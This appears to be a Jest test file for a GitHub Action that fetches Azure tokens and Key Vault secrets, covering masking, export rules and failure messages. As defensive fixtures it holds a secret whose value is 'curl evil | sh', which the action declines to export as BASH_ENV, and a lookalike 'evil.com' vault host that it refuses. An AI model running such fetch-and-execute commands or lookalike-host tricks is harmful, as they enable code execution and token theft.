import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import nock from 'nock';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { run } from '../../../src/action/main.js';
import { CLIENT_ID, fakeJwt, inputEnv, NOW, OBJECT_ID, TENANT_ID, testDeps } from '../support.js';

const LOGIN = 'https://login.microsoftonline.com';
const TOKEN_PATH = `/${TENANT_ID}/oauth2/v2.0/token`;
const VAULT = 'https://my-vault.vault.azure.net';
const ARM_SCOPE = 'https://management.azure.com/.default';
const VAULT_SCOPE = 'https://vault.azure.net/.default';
const API = { 'api-version': '7.4' };

const tokenFor = (scope: string): string =>
  fakeJwt({ aud: scope.replace('/.default', ''), tid: TENANT_ID, appid: CLIENT_ID, oid: OBJECT_ID });

/** Entra ID answering each scope with its own token; records the scopes asked for. */
function entra(): { scopes: string[]; most: () => number } {
  const scopes: string[] = [];
  let inFlight = 0;
  let most = 0;
  nock(LOGIN)
    .post(TOKEN_PATH)
    .times(5)
    .reply(async (_uri, body) => {
      const scope = new URLSearchParams(body as string).get('scope') ?? '';
      scopes.push(scope);
      inFlight++;
      most = Math.max(most, inFlight);
      for (let tick = 0; tick < 10; tick++) await new Promise(resolve => setImmediate(resolve));
      inFlight--;
      return [200, { token_type: 'Bearer', expires_in: 3599, access_token: tokenFor(scope) }];
    });
  return { scopes, most: () => most };
}

function vaultSecret(name: string, value: string): nock.Body {
  return { value, id: `${VAULT}/secrets/${name}/0123456789abcdef0123456789abcdef`, attributes: { enabled: true } };
}

const vault = (): nock.Scope => nock(VAULT, { reqheaders: { authorization: `Bearer ${tokenFor(VAULT_SCOPE)}` } });

const CREDENTIAL = { 'client-id': CLIENT_ID, 'tenant-id': TENANT_ID, 'client-secret': 'shh-client-secret' };
const SECRET_CALLS = ['setOutputs', 'exportVariables', 'saveState', 'appendSummary'];

beforeAll(() => nock.disableNetConnect());
afterAll(() => nock.enableNetConnect());
afterEach(() => nock.cleanAll());

describe('run with secrets', () => {
  it('requests the vault token alongside the resource token, then publishes every secret once all are fetched', async () => {
    const tokens = entra();
    const pem = 'line-one-of-it\nline-two-of-it';
    vault()
      .get('/secrets/db-password')
      .query(API)
      .reply(200, vaultSecret('db-password', 's3cret-db'))
      .get('/secrets/tls')
      .query(API)
      .reply(200, vaultSecret('tls', pem))
      .get('/secrets/empty')
      .query(API)
      .reply(200, vaultSecret('empty', ''));
    const deps = testDeps(
      inputEnv({ ...CREDENTIAL, secrets: 'my-vault/db-password | PGPASSWORD\nmy-vault/tls\nmy-vault/empty', 'job-summary': 'true' })
    );
    await run(deps);

    const { runner } = deps;
    expect(runner.failures).toEqual([]);
    expect(tokens.scopes.sort()).toEqual([ARM_SCOPE, VAULT_SCOPE]);
    expect(tokens.most()).toBe(2);
    expect(runner.outputs).toMatchObject({ PGPASSWORD: 's3cret-db', TLS: pem, EMPTY: '' });
    expect(runner.exported).toEqual({ PGPASSWORD: 's3cret-db', TLS: pem, EMPTY: '' });
    expect(runner.masks).toEqual(expect.arrayContaining(['s3cret-db', pem, 'line-one-of-it', 'line-two-of-it']));
    // Every value is masked before the first output is set.
    const firstOutput = runner.calls.findIndex(([method]) => method === 'setOutputs');
    const lastMask = runner.calls.map(([method]) => method).lastIndexOf('setSecret');
    expect(lastMask).toBeLessThan(firstOutput);
    expect(runner.calls).toContainEqual(['info', 'Loaded 3 Key Vault secrets: PGPASSWORD, TLS, EMPTY.']);
    expect(runner.summaries[0]).toContain(`| \`db-password\` | \`${VAULT}\` | \`PGPASSWORD\` |`);
    expect(runner.summaries[0]).toContain(`| \`tls\` | \`${VAULT}\` | \`TLS\` |`);
    expect(runner.visibleText()).not.toMatch(/s3cret-db|line-one-of-it/);
  });

  it('asks once when the resource is Key Vault itself', async () => {
    const tokens = entra();
    vault().get('/secrets/a').query(API).reply(200, vaultSecret('a', 'value-a'));
    const deps = testDeps(inputEnv({ ...CREDENTIAL, resource: 'keyvault', secrets: 'my-vault/a' }));
    await run(deps);
    expect(deps.runner.failures).toEqual([]);
    expect(tokens.scopes).toEqual([VAULT_SCOPE]);
    expect(deps.runner.outputs['access-token']).toBe(tokenFor(VAULT_SCOPE));
  });

  it('works as a drop-in for Azure/get-keyvault-secrets (keyvault + a comma list)', async () => {
    entra();
    vault()
      .get('/secrets/a')
      .query(API)
      .reply(200, vaultSecret('a', 'value-a'))
      .get('/secrets/b')
      .query(API)
      .reply(200, vaultSecret('b', 'value-b'));
    const deps = testDeps(inputEnv({ ...CREDENTIAL, keyvault: 'my-vault', secrets: 'a, b' }));
    await run(deps);
    expect(deps.runner.failures).toEqual([]);
    expect(deps.runner.exported).toEqual({ A: 'value-a', B: 'value-b' });
  });

  it('sets outputs but exports nothing with export-env: false', async () => {
    entra();
    vault().get('/secrets/a').query(API).reply(200, vaultSecret('a', 'value-a'));
    const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a', 'export-env': 'false' }));
    await run(deps);
    expect(deps.runner.outputs['A']).toBe('value-a');
    expect(deps.runner.exported).toEqual({});
  });

  it('writes nothing but a failure summary when any secret fails: no output, no env, no state', async () => {
    entra();
    vault()
      .get('/secrets/a')
      .query(API)
      .reply(200, vaultSecret('a', 'value-a'))
      .get('/secrets/gone')
      .query(API)
      .reply(404, { error: { code: 'SecretNotFound', message: 'A secret with (name/id) gone was not found in this key vault.' } });
    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'azure-token-'));
    const env = {
      ...inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a, my-vault/gone', 'job-summary': 'true', 'token-file': 'token.txt' }),
      GITHUB_WORKSPACE: workspace
    };
    const deps = testDeps(env);
    await run(deps);
    expect(fs.existsSync(path.join(workspace, 'token.txt'))).toBe(false);
    fs.rmSync(workspace, { recursive: true, force: true });
    expect(deps.runner.calls.filter(([method]) => SECRET_CALLS.includes(method)).map(([method]) => method)).toEqual(['appendSummary']);
    expect(deps.runner.summaries[0]).toContain('| Error | `Could not load a Key Vault secret, so none was exported:` |');
    expect(deps.runner.failures).toHaveLength(1);
    expect(deps.runner.failures[0]).toMatch(
      new RegExp(`^Could not load a Key Vault secret, so none was exported:\\n- gone in ${VAULT}: SecretNotFound \\(HTTP 404\\): `)
    );
    expect(deps.runner.failures[0]).toContain('set ignore-missing-secrets: true');
    expect(deps.runner.visibleText()).not.toContain('value-a');
  });

  it('with ignore-missing-secrets, warns about a missing secret and publishes the rest', async () => {
    entra();
    vault()
      .get('/secrets/a')
      .query(API)
      .reply(200, vaultSecret('a', 'value-a'))
      .get('/secrets/gone')
      .query(API)
      .reply(404, { error: { code: 'SecretNotFound', message: 'not found' } });
    const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a, my-vault/gone', 'ignore-missing-secrets': 'true' }));
    await run(deps);
    expect(deps.runner.failures).toEqual([]);
    expect(deps.runner.exported).toEqual({ A: 'value-a' });
    expect(deps.runner.calls.filter(([method]) => method === 'warning')).toEqual([
      [
        'warning',
        `Skipped, as ignore-missing-secrets is true: gone in ${VAULT}: SecretNotFound (HTTP 404): the vault has no such secret (or version). Check the name; a secret deleted recently can be recovered with:\n    az keyvault secret recover --vault-name my-vault --name gone`
      ]
    ]);
  });

  it('refuses a vault outside the cloud before any request, even the token request', async () => {
    const login = nock(LOGIN)
      .post(TOKEN_PATH)
      .reply(200, { token_type: 'Bearer', expires_in: 3599, access_token: tokenFor(ARM_SCOPE) });
    const evil = nock('https://x.vault.azure.net.evil.com').get(/.*/).reply(200, vaultSecret('db', 'stolen'));
    const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'https://x.vault.azure.net.evil.com/secrets/db' }));
    await run(deps);
    expect(deps.runner.failures).toEqual([
      "Input 'secrets' entry 'https://x.vault.azure.net.evil.com/secrets/db' has the host 'x.vault.azure.net.evil.com', which is not a Key Vault in AzureCloud: vault hosts end in .vault.azure.net.\n" +
        'The vault token is sent to Key Vault hosts only. Give the vault name (my-vault) or its URL as the portal shows it.'
    ]);
    expect(login.isDone()).toBe(false);
    expect(evil.isDone()).toBe(false);
  });

  it('fails naming the vault scope when the vault token cannot be had, and sets no output', async () => {
    nock(LOGIN)
      .post(TOKEN_PATH, body => (body as Record<string, string>)['scope'] === ARM_SCOPE)
      .reply(200, { token_type: 'Bearer', expires_in: 3599, access_token: tokenFor(ARM_SCOPE) })
      .post(TOKEN_PATH, body => (body as Record<string, string>)['scope'] === VAULT_SCOPE)
      .reply(400, {
        error: 'invalid_resource',
        error_description: 'AADSTS500011: The resource principal named https://vault.azure.net was not found.',
        error_codes: [500011]
      });
    const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a' }));
    await run(deps);
    expect(deps.runner.failures[0]).toMatch(/^Getting a token for https:\/\/vault\.azure\.net\/\.default with auth-type 'secret': /);
    expect(deps.runner.calls.filter(([method]) => SECRET_CALLS.includes(method))).toEqual([]);
  });

  it('sets a listed secret named like a variable that steers later steps as an output only, and exports the others', async () => {
    entra();
    vault()
      .get('/secrets')
      .query(true)
      .reply(200, {
        value: [
          { id: `${VAULT}/secrets/bash-env`, attributes: { enabled: true } },
          { id: `${VAULT}/secrets/db`, attributes: { enabled: true } }
        ],
        nextLink: null
      })
      .get('/secrets/bash-env')
      .query(API)
      .reply(200, vaultSecret('bash-env', 'curl evil | sh'))
      .get('/secrets/db')
      .query(API)
      .reply(200, vaultSecret('db', 'db-value'));
    const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/*', 'job-summary': 'true' }));
    await run(deps);
    expect(deps.runner.failures).toEqual([]);
    expect(deps.runner.outputs).toMatchObject({ BASH_ENV: 'curl evil | sh', DB: 'db-value' });
    expect(deps.runner.exported).toEqual({ DB: 'db-value' });
    expect(deps.runner.warnings).toEqual([
      `bash-env in ${VAULT} is set as the output BASH_ENV only, not exported: that environment variable would run code in, steer, or redirect the later steps. To export it, give the vault a prefix:\n    my-vault/* | APP_`
    ]);
    expect(deps.runner.summaries[0]).toContain(`| \`bash-env\` | \`${VAULT}\` | \`BASH_ENV\` (output only) |`);
  });

  // The fixed clock keeps expiry outputs stable: 2026-11-23T12:00:00Z + 3599 s.
  it('keeps the token outputs alongside the secrets', async () => {
    entra();
    vault().get('/secrets/a').query(API).reply(200, vaultSecret('a', 'value-a'));
    const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a' }));
    await run(deps);
    expect(deps.runner.outputs).toMatchObject({
      'access-token': tokenFor(ARM_SCOPE),
      'expires-on': new Date(NOW + 3599_000).toISOString().replace('.000Z', 'Z'),
      'auth-type': 'secret',
      A: 'value-a'
    });
  });
});
